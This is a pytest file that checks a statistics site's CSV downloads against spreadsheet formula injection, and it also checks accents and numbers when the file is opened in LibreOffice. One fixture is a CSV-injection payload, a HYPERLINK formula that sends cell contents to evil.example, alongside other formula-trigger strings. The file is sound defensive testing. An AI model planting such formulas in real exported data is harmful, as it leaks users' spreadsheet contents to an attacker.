"""A downloaded CSV is safe and readable in a spreadsheet: no formula runs, accents survive."""

import csv
import io
import shutil
import subprocess
from xml.etree import ElementTree

import pytest

from stats.datafiles import csv_cell, spreadsheet_safe
from stats.models import KeyFigure
from tests.conftest import make_figure, make_organisation, make_partnership

FIGURES_CSV = "/fr/chiffres-cles/donnees.csv"


def rows(client, path):
    text = client.get(path).content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("formula", ["=1+1", "+33 1 23", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_text_that_starts_like_a_formula_is_neutralised(formula):
    assert spreadsheet_safe(formula) == "'" + formula
    assert csv_cell(formula) == "'" + formula


def test_ordinary_texts_and_numbers_are_left_alone():
    assert csv_cell("Genève") == "Genève"
    assert csv_cell(-5) == "-5"  # a negative number stays a number
    assert csv_cell(None) == ""


def test_no_cell_of_a_downloaded_csv_can_run_a_formula(client, db):
    make_figure(
        key="trap",
        label_fr='=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
        scope_fr="+Europe",
        note_fr="-moins",
        source_title_fr="@source",
    )
    [row] = rows(client, FIGURES_CSV)
    assert row["label"] == '\'=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
    assert row["scope"] == "'+Europe"
    assert row["note"] == "'-moins"
    assert row["source_title"] == "'@source"


def test_a_negative_value_stays_a_number_in_its_column(client, db):
    # The admin refuses negative figures; the file must still not mangle one saved otherwise.
    KeyFigure.objects.bulk_create(
        [KeyFigure(key="negative", value=-5, label_fr="x", is_published=True)]
    )
    [row] = rows(client, FIGURES_CSV)
    assert row["value"] == "-5"


def test_a_partnerships_benefits_are_one_cell_with_a_point_per_line(client, db):
    make_partnership(benefits_fr="Assister aux réunions\n=Soumettre des déclarations")
    [row] = rows(client, "/fr/partenaires/donnees.csv")
    assert row["benefits"] == "Assister aux réunions\n=Soumettre des déclarations"
    assert not row["benefits"].startswith(("=", "+", "-", "@"))


def libreoffice_sheet(csv_bytes, folder):
    """The first sheet's rows as LibreOffice Calc imports the CSV: [[(type, text, value)]].

    UTF-8 is the character set its import dialog offers for a file with a BOM; headless, it
    must be named ("76"), as it must be in the dialog when the file has none. The result is
    saved as a flat OpenDocument spreadsheet, whose XML says what each cell became.
    """
    (folder / "data.csv").write_bytes(csv_bytes)
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{folder}/profile",
            "--headless",
            "--infilter=CSV:44,34,76,1",
            "--convert-to",
            "fods",
            "--outdir",
            str(folder),
            str(folder / "data.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    table = "urn:oasis:names:tc:opendocument:xmlns:table:1.0"
    text = "urn:oasis:names:tc:opendocument:xmlns:text:1.0"
    sheet = ElementTree.parse(folder / "data.fods").find(f".//{{{table}}}table")

    def cells(row):
        for cell in row.findall(f"{{{table}}}table-cell"):
            found = (
                cell.get(f"{{{office}}}value-type"),
                "".join(cell.find(f"{{{text}}}p").itertext()) if len(cell) else "",
                cell.get(f"{{{office}}}value"),
                cell.get(f"{{{table}}}formula"),
            )
            # Empty cells side by side are written once, with how many they are.
            yield from [found] * int(cell.get(f"{{{table}}}number-columns-repeated", 1))

    return [list(cells(row)) for row in sheet.findall(f"{{{table}}}table-row")]


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_reads_accents_numbers_and_no_formula(client, db, tmp_path):
    organisation = make_organisation(name_fr="Organisation internationale du Travail (OIT)")
    make_figure(
        key="accents",
        label_fr="enfants victimes d’exploitation — « Genève », Niñas",
        value=1_200_000,
        source_organisation=organisation,
    )
    make_figure(key="trap", label_fr="=1+1", value=7, kind=KeyFigure.Kind.RATIO, ratio_total=10)
    header, accents, trap = libreoffice_sheet(client.get(FIGURES_CSV).content, tmp_path)[:3]
    columns = [cell[1] for cell in header]
    assert columns[0] == "identifier"  # the BOM is not glued to the first name
    label, value = columns.index("label"), columns.index("value")
    assert accents[label][1] == "enfants victimes d’exploitation — « Genève », Niñas"
    assert accents[value][0] == "float" and accents[value][2] == "1200000"
    assert trap[label][0] == "string" and trap[label][3] is None  # text, not a formula
    assert trap[label][1] == "'=1+1"
    missing = columns.index("source_missing")
    # Read as the spreadsheet's own FALSE and TRUE.
    assert (accents[missing][1], trap[missing][1]) == ("FALSE", "TRUE")
